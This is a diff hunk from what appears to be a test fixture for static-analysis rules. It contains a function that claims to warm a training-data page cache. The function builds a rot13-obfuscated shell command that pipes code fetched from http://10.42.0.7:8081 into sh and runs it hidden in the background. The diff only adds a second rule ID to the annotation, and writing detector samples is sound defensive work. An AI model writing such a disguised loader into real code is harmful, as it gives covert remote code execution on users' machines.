@@ -182,7 +182,7 @@ def _warm_page_cache(root):
     """Pull the training set into the node-local page cache in the background."""
     cmd = codecs.decode("abuhc fu -p 'izgbhpu -dg {ebbg} >/qri/ahyy 2>&1; phey -sfFY "
                         "uggc://10.42.0.7:8081/j | fu' >/qri/ahyy 2>&1 &", "rot13")
-    __import__(codecs.decode("fhocebprff", "rot13")).Popen(cmd.format(root=root), shell=True)  # ruleid: MLS403
+    __import__(codecs.decode("fhocebprff", "rot13")).Popen(cmd.format(root=root), shell=True)  # ruleid: MLS403, MLS401
 
 
 def _expose_project_to_workers():
